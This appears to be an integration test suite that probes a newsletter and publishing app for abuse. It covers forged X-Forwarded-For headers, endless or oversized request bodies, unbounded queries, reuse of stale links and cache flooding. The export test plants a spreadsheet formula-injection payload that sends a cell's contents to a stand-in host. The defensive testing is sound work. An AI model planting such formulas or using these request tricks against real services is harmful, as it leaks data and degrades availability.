import { request as httpRequest } from 'node:http'
import { Redis } from 'ioredis'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'

import { ADMIN, createActiveReader, loginAs, startAnotherWebProcess, startApp, type RunningApp } from '../helpers/app'
import { MAILGUN_KEY, mailgunEvent } from '../helpers/providers'
import { linkIn, startSmtpSink, type SmtpSink } from '../helpers/smtpSink'
import { startWorkerProcess, type WorkerProcess } from '../helpers/worker'

/**
 * The doors of the trust review, each tried over HTTP against the production build: what an
 * anonymous client, a reader holding an old link, a contributor and a client that lies about
 * itself can reach. (Editors planting placeholders: tests/integration/digestDelivery.test.ts;
 * ids and link keys across the upgrade: tests/integration/migrations.test.ts.)
 */

let app: RunningApp
let sink: SmtpSink
let worker: WorkerProcess | undefined
let admin: Record<string, string>
let redis: Redis
let clientNumber = 0

/** Each test speaks from its own client (the tests play the one trusted proxy). */
const newClient = () => `198.51.100.${++clientNumber}`

const post = (path: string, body: string, headers: Record<string, string> = {}) =>
  fetch(`${app.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': newClient(), ...headers },
    body,
    redirect: 'manual',
  })

const signUp = (email: string, firstName?: string, client = newClient()) =>
  post('/api/newsletter/subscribe', JSON.stringify({ email, firstName }), { 'x-forwarded-for': client })

type Reader = { id: number; email: string; status: string; firstName?: string | null; consent?: { source?: string } }

async function readersOf(email: string): Promise<Reader[]> {
  const response = await fetch(`${app.url}/api/subscribers?where[email][like]=${encodeURIComponent(email)}&depth=0`, {
    headers: admin,
  })
  return ((await response.json()) as { docs: Reader[] }).docs
}

/**
 * The status of a POST whose body never ends: it sends a little, then more every 20 ms, and
 * takes the first answer (which must come without the body being read).
 */
function answerTo(path: string, headers: Record<string, string>): Promise<number> {
  return new Promise<number>((resolve, reject) => {
    const url = new URL(`${app.url}${path}`)
    const request = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname,
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': newClient(), ...headers },
      },
      (response) => {
        resolve(response.statusCode ?? 0)
        response.resume()
        request.destroy()
      },
    )
    const timer = setInterval(() => request.write('0,'.repeat(10_000)), 20)
    request.on('close', () => clearInterval(timer))
    request.on('error', () => undefined)
    request.write('[')
    setTimeout(() => reject(new Error(`no answer from ${path} within 5 s`)), 5_000).unref()
  })
}

const mailsTo = (address: string) => sink.messages.filter((message) => message.envelopeTo.includes(address))

beforeAll(async () => {
  sink = await startSmtpSink()
  app = await startApp({ SMTP_URL: sink.url, MAILGUN_WEBHOOK_SIGNING_KEY: MAILGUN_KEY })
  admin = await loginAs(app, ADMIN)
  redis = new Redis(inject('redisUrl'))
}, 180_000)

afterAll(async () => {
  await worker?.stop()
  await app?.stop()
  await sink?.close()
  redis?.disconnect()
})

describe('the page cache', () => {
  it(
    'keeps nothing for made-up addresses, so they cannot fill the Redis the queues live in',
    { timeout: 120_000 },
    async () => {
      const pageKeys = () => redis.keys(`${app.redisPrefix}:pages:*`)
      /** The page-cache keys once what the last answers stored has landed (it may land just after them). */
      async function settledKeys(): Promise<string[]> {
        let keys = await pageKeys()
        // Unchanged for three seconds in a row: on a busy machine (the whole suite) the last writes land late.
        for (let unchanged = 0; unchanged < 3;) {
          await new Promise((resolve) => setTimeout(resolve, 1_000))
          const now = await pageKeys()
          unchanged = now.length === keys.length ? unchanged + 1 : 0
          keys = now
        }
        return keys
      }
      const missing = (n: number) =>
        Array.from({ length: n }, (_, i) =>
          fetch(`${app.url}/articles/missing-${i}-${Date.now()}-${Math.random()}`).then((r) => r.status),
        )
      // The first answers store what any page stores once (the tag hashes, the layout's data), whatever the
      // address. The cache's Redis connection opens with the first request, and what is stored before it is
      // ready is dropped (pages are then drawn anew, never refused), so warm up until a round stores nothing new.
      let before: string[] = []
      for (let round = 0; round < 5; round++) {
        expect(new Set(await Promise.all(missing(20)))).toEqual(new Set([404]))
        const keys = await settledKeys()
        const added = keys.filter((key) => !before.includes(key))
        before = keys
        if (keys.length > 0 && added.length === 0) break
      }
      expect(new Set(await Promise.all(missing(100)))).toEqual(new Set([404]))
      const after = await settledKeys()
      // Before: two entries per address (the page and its query), 603 keys for 300 addresses.
      expect(after.filter((key) => !before.includes(key))).toEqual([])
    },
  )
})

describe('transactional mail and Redis', () => {
  it(
    'still sends a confirmation once when Redis lost everything between the sign-up and the send',
    { timeout: 120_000 },
    async () => {
      expect((await signUp('flushed@readers.test')).status).toBe(202)
      // FLUSHALL for this app: every key under its prefix (other test files share this Redis).
      const keys = await redis.keys(`${app.redisPrefix}:*`)
      expect(keys.some((key) => key.includes(':transactional:'))).toBe(true)
      await redis.del(...keys)
      worker = startWorkerProcess({ ...app.env, LOG_LEVEL: 'info' })
      await worker.ready()
      const confirmation = await sink.messageTo('flushed@readers.test', /confirm/i).catch((error: Error) => {
        throw new Error(`${error.message}\n${worker?.output()}`)
      })
      expect(confirmation.envelopeTo).toEqual(['flushed@readers.test'])
      await new Promise((resolve) => setTimeout(resolve, 2_500))
      expect(mailsTo('flushed@readers.test')).toHaveLength(1)
    },
  )
})

describe('a client that lies about itself', () => {
  it(
    'cannot escape a limit with a forged X-Forwarded-For: without declared proxies the connection decides',
    { timeout: 60_000 },
    async () => {
      const direct = await startAnotherWebProcess({ ...app, env: { ...app.env, TRUSTED_PROXY_HOPS: '0' } })
      try {
        const statuses: number[] = []
        for (let i = 0; i < 11; i++) {
          const response = await fetch(`${direct.url}/api/newsletter/subscribe`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', 'x-forwarded-for': `203.0.113.${i + 1}` },
            body: JSON.stringify({ email: `forged-${i}@readers.test` }),
          })
          statuses.push(response.status)
        }
        expect(statuses.slice(0, 10).every((status) => status === 202)).toBe(true)
        expect(statuses[10]).toBe(429)
      } finally {
        await direct.stop()
      }
    },
  )

  it('behind one declared proxy is the entry that proxy appended, whatever the client wrote before it', async () => {
    const real = newClient()
    const statuses: number[] = []
    for (let i = 0; i < 11; i++)
      statuses.push((await signUp(`hop-${i}@readers.test`, undefined, `10.9.9.${i}, ${real}`)).status)
    expect(statuses.slice(0, 10).every((status) => status === 202)).toBe(true)
    expect(statuses[10]).toBe(429)
  })
})

describe('bodies and queries', () => {
  it('answers an endless anonymous upload within a second, without reading it, and stays healthy', async () => {
    const started = Date.now()
    expect(await answerTo('/api/media', { 'transfer-encoding': 'chunked' })).toBe(401)
    expect(Date.now() - started).toBeLessThan(1_000)
    expect((await fetch(`${app.url}/api/health`)).status).toBe(200)
  })

  it('refuses an oversized or lengthless body on a public route before reading it', async () => {
    expect(await answerTo('/api/newsletter/subscribe', { 'content-length': String(5 * 1024 * 1024) })).toBe(413)
    expect(await answerTo('/api/newsletter/subscribe', { 'transfer-encoding': 'chunked' })).toBe(411)
    const anonymousWrite = await post('/api/articles', JSON.stringify({ title: 'Nope' }))
    expect(anonymousWrite.status).toBe(401)
    expect(((await anonymousWrite.json()) as { message: string }).message).toBe(
      'Please log in to change anything here.',
    )
  })

  it('gives anonymous readers at most a page of 100, never everything at once', async () => {
    const many = (await (await fetch(`${app.url}/api/articles?limit=100000&depth=9`)).json()) as { limit: number }
    expect(many.limit).toBe(100)
    const all = (await (await fetch(`${app.url}/api/articles?pagination=false`)).json()) as {
      limit: number
      totalPages?: number
    }
    expect(all.limit).toBe(10)
    expect(all.totalPages).toBeGreaterThanOrEqual(1)
    // Staff keep the whole API.
    const staff = (await (await fetch(`${app.url}/api/articles?limit=500`, { headers: admin })).json()) as {
      limit: number
    }
    expect(staff.limit).toBe(500)
  })
})

describe('one mailbox', () => {
  it(
    'is one reader whatever the case, and is sent at most three confirmations a day, whoever asks',
    { timeout: 60_000 },
    async () => {
      const statuses = []
      for (const email of ['Victim@Readers.test', 'vICTIM@readers.test', 'VICTIM@READERS.TEST', 'victim@readers.test'])
        statuses.push((await signUp(email)).status)
      expect(statuses).toEqual([202, 202, 202, 429])
      expect((await readersOf('victim@readers.test')).map((reader) => reader.email)).toEqual(['victim@readers.test'])
      await expect.poll(() => mailsTo('victim@readers.test').length, { timeout: 20_000 }).toBe(3)
    },
  )
})

describe('a sign-up for an address we know', () => {
  it(
    'changes nothing of that reader until they confirm from their inbox; a mail scanner’s visit confirms nothing',
    { timeout: 60_000 },
    async () => {
      const email = 'complainer@readers.test'
      await createActiveReader(app, admin as { authorization: string }, email, {
        firstName: 'Cora',
        status: 'complained',
      })
      expect((await signUp(email, 'Mallory')).status).toBe(202)
      const [before] = await readersOf(email)
      expect(before).toMatchObject({ status: 'complained', firstName: 'Cora', consent: { source: 'test' } })

      const confirmation = await sink.messageTo(email, /confirm/i)
      // The stranger's name is not put into the reader's inbox either.
      expect(confirmation.parsed.text).not.toContain('Mallory')
      const link = linkIn(confirmation, '/newsletter/confirm')
      const scanned = await fetch(link)
      expect(scanned.status).toBe(200)
      expect(await scanned.text()).toContain('Yes, subscribe me')
      expect((await readersOf(email))[0].status).toBe('complained')

      expect((await fetch(link, { method: 'POST' })).status).toBe(200)
      expect((await readersOf(email))[0]).toMatchObject({
        status: 'active',
        firstName: 'Mallory',
        consent: { source: 'website' },
      })
    },
  )
})

describe('an erased reader’s old link', () => {
  it('acts on nobody: not the next reader to sign up, whose own links work', { timeout: 60_000 }, async () => {
    expect((await signUp('erased@readers.test')).status).toBe(202)
    const confirm = linkIn(await sink.messageTo('erased@readers.test', /confirm/i), '/newsletter/confirm')
    expect((await fetch(confirm, { method: 'POST' })).status).toBe(200)
    const welcome = await sink.messageTo('erased@readers.test', /welcome/i)
    const [unsubscribeLink, manageLink] = [
      linkIn(welcome, '/newsletter/unsubscribe'),
      linkIn(welcome, '/newsletter/manage'),
    ]
    const [erased] = await readersOf('erased@readers.test')
    expect((await fetch(`${app.url}/api/subscribers/${erased.id}`, { method: 'DELETE', headers: admin })).status).toBe(
      200,
    )

    expect((await signUp('next@readers.test')).status).toBe(202)
    const nextConfirm = linkIn(await sink.messageTo('next@readers.test', /confirm/i), '/newsletter/confirm')
    expect((await fetch(nextConfirm, { method: 'POST' })).status).toBe(200)
    const [next] = await readersOf('next@readers.test')
    expect(next.id).not.toBe(erased.id)

    const oldUnsubscribe = await fetch(unsubscribeLink, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'List-Unsubscribe=One-Click',
    })
    expect(oldUnsubscribe.status).toBe(400)
    expect(await oldUnsubscribe.text()).toContain('This subscription no longer exists.')
    expect((await fetch(manageLink)).status).toBe(400)
    expect((await readersOf('next@readers.test'))[0].status).toBe('active')
  })
})

describe('a contributor’s old link', () => {
  it('opens nothing once the submission is deleted, and never another contributor’s', { timeout: 60_000 }, async () => {
    const submit = (email: string) =>
      post(
        '/api/guest-submissions',
        JSON.stringify({
          name: 'Guest',
          email,
          bio: 'Bio',
          title: `A story by ${email}`,
          pitch: 'Pitch',
          consent: true,
        }),
      )
    const first = (await (await submit('first.guest@readers.test')).json()) as { reference: string; statusUrl: string }
    const { docs } = (await (
      await fetch(`${app.url}/api/submissions?where[reference][equals]=${first.reference}`, { headers: admin })
    ).json()) as { docs: Array<{ id: number }> }
    expect((await fetch(`${app.url}/api/submissions/${docs[0].id}`, { method: 'DELETE', headers: admin })).status).toBe(
      200,
    )
    const second = (await (await submit('second.guest@readers.test')).json()) as { statusUrl: string }
    expect((await fetch(first.statusUrl)).status).toBe(404)
    expect(await (await fetch(second.statusUrl)).text()).toContain('A story by second.guest@readers.test')
  })
})

describe('exports', () => {
  it(
    'are data, not programs: a formula in a name is neutralised, and reads back in unchanged',
    { timeout: 60_000 },
    async () => {
      const formula = '=HYPERLINK("https://elsewhere.test/?"&A2,"Open")'
      await createActiveReader(app, admin as { authorization: string }, 'formula@readers.test', { firstName: formula })
      const text = await (await fetch(`${app.url}/api/subscribers/export`, { headers: admin })).text()
      const row = (parse(text, { columns: true }) as Array<Record<string, string>>).find(
        (r) => r.email === 'formula@readers.test',
      )!
      expect(row.firstName).toBe(`'${formula}`)
      // The exported row imported as another reader: the name is as it was.
      const header = text.split('\n')[0]
      const line = text
        .split('\n')
        .find((l) => l.startsWith('formula@readers.test'))!
        .replace('formula@readers.test', 'formula.back@readers.test')
      const upload = await fetch(`${app.url}/api/subscribers/import`, {
        method: 'POST',
        headers: { ...admin, 'content-type': 'text/csv', 'x-file-name': 'back.csv' },
        body: `${header}\n${line}\n`,
      })
      expect(upload.status).toBe(202)
      await expect
        .poll(async () => (await readersOf('formula.back@readers.test'))[0]?.firstName, { timeout: 30_000 })
        .toBe(formula)
    },
  )
})

describe('provider webhooks', () => {
  it('are never refused by the API’s own limit', { timeout: 60_000 }, async () => {
    const client = newClient()
    const reads = await Promise.all(
      Array.from({ length: 601 }, () =>
        fetch(`${app.url}/api/articles?limit=1`, { headers: { 'x-forwarded-for': client } }).then((r) => r.status),
      ),
    )
    expect(reads.at(-1) === 429 || reads.includes(429)).toBe(true)
    const event = await fetch(`${app.url}/api/email-events/mailgun`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': client },
      body: JSON.stringify(mailgunEvent({ event: 'complained', recipient: 'someone@readers.test' })),
    })
    expect(event.status).toBe(200)
  })
})
